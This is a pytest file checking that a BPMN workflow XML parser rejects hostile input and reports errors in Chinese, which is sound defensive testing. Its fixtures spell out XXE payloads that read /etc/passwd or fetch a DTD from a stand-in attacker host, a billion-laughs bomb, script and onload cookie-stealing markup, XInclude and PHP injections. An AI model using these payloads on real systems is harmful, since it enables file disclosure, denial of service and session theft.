"""Hostile XML is refused before any BPMN parser sees it."""

import re

import pytest

from workflows.xmlsafe import XmlRejected, parse_xml

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">&x;</definitions>"""

XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.invalid/evil.dtd"> %p;]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">&lol3;</definitions>"""


@pytest.mark.parametrize("content", [XXE_FILE, XXE_NETWORK, BILLION_LAUGHS])
def test_doctype_and_entities_are_refused(content):
    with pytest.raises(XmlRejected) as info:
        parse_xml(content)
    assert info.value.key == "xml.doctype_forbidden"
    assert info.value.line == 2


def test_file_over_the_limit_is_refused_before_parsing():
    content = b"<a>" + b"x" * (50 * 1024 * 1024) + b"</a>"
    with pytest.raises(XmlRejected) as info:
        parse_xml(content)
    assert info.value.key == "file.too_large"


def test_not_xml_reports_the_line():
    with pytest.raises(XmlRejected) as info:
        parse_xml(b"<definitions>\n<process>\n</definitions>")
    assert info.value.key == "xml.syntax"
    assert info.value.line == 3
    assert "开始标签与结束标签不匹配" in info.value.message  # in the designer's words


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"<a/><b/>", "多余内容"),
        (b"<a x='1' x='2'/>", "重复的属性"),
        (b"<p:a/>", "命名空间前缀"),
        (b"<a b=1/>", "缺少引号"),
        (b"<a", "没有正确结束"),
    ],
)
def test_common_syntax_errors_are_told_in_chinese(content, words):
    with pytest.raises(XmlRejected) as info:
        parse_xml(content)
    assert words in info.value.message
    assert not re.search(r"[A-Za-z]{3,}", info.value.message.replace("XML", "")), info.value.message


def test_very_deep_nesting_is_refused():
    depth = 300
    content = b"<a>" * depth + b"</a>" * depth
    with pytest.raises(XmlRejected) as info:
        parse_xml(content)
    assert info.value.key == "xml.syntax"


def test_plain_xml_parses():
    tree = parse_xml(
        b'<?xml version="1.0" encoding="UTF-8"?><definitions id="d"><!-- c --></definitions>'
    )
    assert tree.getroot().get("id") == "d"


BPMN = "http://www.omg.org/spec/BPMN/20100524/MODEL"


def _definitions(inner: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}\n'
        f'<bpmn:definitions xmlns:bpmn="{BPMN}" id="d">\n{inner}\n</bpmn:definitions>'
    ).encode()


@pytest.mark.parametrize(
    "content, key",
    [
        (
            _definitions(
                '<bpmn:process id="p"><bpmn:documentation>'
                '<script xmlns="http://www.w3.org/1999/xhtml">alert(document.cookie)</script>'
                "</bpmn:documentation></bpmn:process>"
            ),
            "xml.active_content",
        ),
        (
            _definitions(
                '<bpmn:process id="p"><bpmn:extensionElements>'
                '<svg:svg xmlns:svg="http://www.w3.org/2000/svg" onload="alert(1)"/>'
                "</bpmn:extensionElements></bpmn:process>"
            ),
            "xml.active_content",
        ),
        (
            _definitions(
                '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
            ),
            "xml.active_content",
        ),
        (
            _definitions(
                '<bpmn:process id="p" xmlns:h="http://www.w3.org/1999/xhtml" h:onclick="x()"/>'
            ),
            "xml.active_content",
        ),
        (
            _definitions("", '\n<?xml-stylesheet type="text/xsl" href="evil.xsl"?>'),
            "xml.processing_instruction",
        ),
        (
            _definitions('<bpmn:process id="p"><?php echo 1; ?></bpmn:process>'),
            "xml.processing_instruction",
        ),
    ],
)
def test_markup_a_browser_would_run_is_refused_with_its_line(content, key):
    with pytest.raises(XmlRejected) as info:
        parse_xml(content)
    assert info.value.key == key
    assert info.value.line in (2, 3)
    assert "不予接受" in info.value.message


def test_modeler_extension_namespaces_are_data():
    tree = parse_xml(
        _definitions(
            '<bpmn:process id="p" xmlns:camunda="http://camunda.org/schema/1.0/bpmn"'
            ' xmlns:spiffworkflow="http://spiffworkflow.org/bpmn/schema/1.0/core"'
            ' xmlns:zeebe="http://camunda.org/schema/zeebe/1.0"'
            ' xmlns:modeler="http://camunda.org/schema/modeler/1.0"'
            ' xmlns:bioc="http://bpmn.io/schema/bpmn/biocolor/1.0"'
            ' xmlns:color="http://www.omg.org/spec/BPMN/non-normative/color/1.0"'
            ' camunda:versionTag="1" modeler:executionPlatform="Camunda Platform">'
            "<bpmn:documentation>&lt;script&gt;plain text&lt;/script&gt;</bpmn:documentation>"
            "<bpmn:extensionElements><zeebe:taskDefinition type='x'/>"
            "<spiffworkflow:properties/><camunda:formData/></bpmn:extensionElements>"
            '<bpmn:userTask id="t" bioc:fill="#fff" color:background-color="#fff"/>'
            "</bpmn:process>"
        )
    )
    assert tree.getroot().get("id") == "d"


@pytest.mark.parametrize(
    "documentation",
    [
        "<![CDATA[<!DOCTYPE html><html><body>说明</body></html>]]>",
        "<![CDATA[<!ENTITY x SYSTEM 'file:///etc/passwd'>]]>",
        "&lt;!DOCTYPE html&gt; 网页示例",
    ],
)
def test_doctype_words_inside_documentation_are_text(documentation):
    content = _definitions(
        '<bpmn:process id="p"><bpmn:documentation>'
        + documentation
        + "</bpmn:documentation></bpmn:process>",
        "\n<!-- exported; <!DOCTYPE in a comment is text too -->",
    )
    tree = parse_xml(content)
    assert "DOCTYPE" in content.decode() and tree.getroot().get("id") == "d"


def test_a_doctype_after_comments_and_a_byte_order_mark_is_still_refused():
    content = b"\xef\xbb\xbf" + _definitions("", "\n<!-- c -->\n<!DOCTYPE d>")
    with pytest.raises(XmlRejected) as info:
        parse_xml(content)
    assert (info.value.key, info.value.line) == ("xml.doctype_forbidden", 3)
